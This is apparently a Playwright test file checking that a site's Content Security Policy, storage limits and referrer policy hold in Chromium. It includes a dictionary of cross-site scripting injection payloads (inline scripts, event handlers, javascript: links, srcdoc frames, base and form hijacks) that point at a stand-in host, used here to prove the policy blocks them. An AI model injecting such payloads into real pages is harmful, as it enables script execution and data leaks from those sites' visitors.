"""What Chromium lets a page do under its policy: all that the site needs, and nothing that got in by mistake.

That no page wants what its policy refuses is checked on each by `test_every_page`.
"""

from __future__ import annotations

import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request, Route, WebError

from support.browser import refusals
from support.journey import journey
from support.project import PUBLISHED

ELSEWHERE = "https://elsewhere.example/"
OWN_ADDRESS = f"https://{urlsplit(PUBLISHED['SITE_URL']).netloc}/"
# Seconds within which something has happened, even on a machine that is busy with other tests.
PATIENCE = 20
RULES = pytest.mark.parametrize("ruled", [True, False], ids=["with the policy", "without it"])
# What a page may keep of its reader: nothing but a choice of colours.
KEPT = "[document.cookie, sessionStorage.length, ...Object.keys(localStorage)]"
UNMARKED = "links => links.map(({href}) => href)"


@pytest.mark.parametrize("width", [1280, 360])
def test_all_that_answers_works_under_the_policy_and_keeps_nothing_of_the_reader(
    browser: Browser, address: str, width: int
) -> None:
    context = browser.new_context(viewport={"width": width, "height": 900})
    failures: list[str] = []

    def note_message(message: ConsoleMessage) -> None:
        if message.type == "error":
            failures.append(message.text)

    def note_error(error: WebError) -> None:
        failures.append(str(error.error))

    def note_dialog(dialog: Dialog) -> None:
        failures.append(dialog.message)
        dialog.dismiss()

    context.on("console", note_message)
    context.on("weberror", note_error)
    context.on("dialog", note_dialog)
    refused = refusals(context)
    page = context.new_page()
    steps = []
    for step in journey(page, address, "Freedonia"):
        steps.append(step)
        links = page.locator("a[href^=http]:not([rel~=noopener])").evaluate_all(UNMARKED)
        assert [link for link in links if not link.startswith((OWN_ADDRESS, address))] == [], step
        assert page.evaluate(KEPT) == ["", 0, "scheme"], step
    assert len(steps) > 30
    context.close()
    assert (refused, failures) == ([], [])


# What somebody might get into a page behind the templates' back. Each tells that it has worked by calling `hacked`, or
# by asking another site for something.
ATTACKS = {
    "script": "<script>hacked('script')</script>",
    "module": "<script type=module>hacked('module')</script>",
    "handler": "<img src=data:, onerror=\"hacked('handler')\" alt>",
    "svg": "<svg onload=\"hacked('svg')\"></svg>",
    "link": "<a id=attack href=\"javascript:hacked('link')\">x</a>",
    "srcdoc": "<iframe srcdoc=\"<script>parent.hacked('srcdoc')</script>\"></iframe>",
    "foreign-script": f"<script src={ELSEWHERE}foreign-script></script>",
    "style": f"<style>body {{ background: url({ELSEWHERE}style) }}</style>",
    "style-attribute": f'<p style="background: url({ELSEWHERE}style-attribute)">x</p>',
    "style-sheet": f"<link rel=stylesheet href={ELSEWHERE}style-sheet>",
    "image": f"<img src={ELSEWHERE}image alt>",
    "frame": f"<iframe src={ELSEWHERE}frame></iframe>",
    "object": f"<object data={ELSEWHERE}object></object>",
    "media": f"<video src={ELSEWHERE}media></video>",
    "form": f"<form action={ELSEWHERE}form><button id=attack>x</button></form>",
    "base": f"<base href={ELSEWHERE}><img src=base alt>",
    "fetch": "",
}


@RULES
def test_what_gets_into_a_page_neither_runs_nor_asks_others(
    browser: Browser, root: Path, host: str, ruled: bool
) -> None:
    """Without the policy each of them works, so that it is the policy that stops it."""
    html = (root / "sdp/404.html").read_text("utf-8")
    context = browser.new_context(bypass_csp=not ruled)
    done: list[str] = []
    refused = refusals(context)

    def note(attack: str) -> None:
        done.append(attack)

    def answer(route: Route) -> None:
        done.append(urlsplit(route.request.url).path.strip("/"))
        route.fulfill(status=200, body="", headers={"Access-Control-Allow-Origin": "*"})

    context.expose_function("hacked", note)
    context.route(f"{ELSEWHERE}**", answer)
    wrong = []
    for attack, markup in ATTACKS.items():
        (root / "attacked.html").write_text(html.replace("<article ", f"{markup}<article ", 1), "utf-8")
        refused.clear()
        # A tab of its own for each, so that nothing comes late from the one before.
        page = context.new_page()
        page.goto(f"{host}attacked.html")
        if attack == "fetch":
            page.evaluate("address => fetch(address).catch(() => {})", f"{ELSEWHERE}fetch")
        if page.locator("#attack").count():
            page.locator("#attack").dispatch_event("click")
        deadline = time.monotonic() + PATIENCE
        while not (attack in done or refused) and time.monotonic() < deadline:
            page.wait_for_timeout(20)
        page.close()
        if (attack in done, bool(refused)) != (not ruled, ruled):
            wrong.append((attack, [*refused]))
    context.close()
    assert wrong == []
    # Nothing has worked late either.
    assert bool(done) != ruled


@RULES
def test_other_sites_do_not_learn_where_a_reader_comes_from(page: Page, root: Path, host: str, ruled: bool) -> None:
    html = (root / "sdp/404.html").read_text("utf-8").replace("<article ", f"<a id=out href={ELSEWHERE}>x</a><article ")
    policy = '<meta name="referrer" content="same-origin">'
    assert policy in html
    (root / "leaving.html").write_text(html if ruled else html.replace(policy, ""), "utf-8")
    page.route(f"{ELSEWHERE}**", lambda route: route.fulfill(body=""))
    page.goto(f"{host}leaving.html")
    with page.expect_request(f"{ELSEWHERE}**") as asked:
        page.locator("#out").click()
    assert referrer(asked.value) == (None if ruled else host)
    page.goto(f"{host}leaving.html")
    with page.expect_request(f"{host}sdp/compare/") as asked:
        page.locator("article").get_by_role("link", name="The comparison").click()
    assert referrer(asked.value) == f"{host}leaving.html"


def referrer(request: Request) -> str | None:
    return request.all_headers().get("referer")
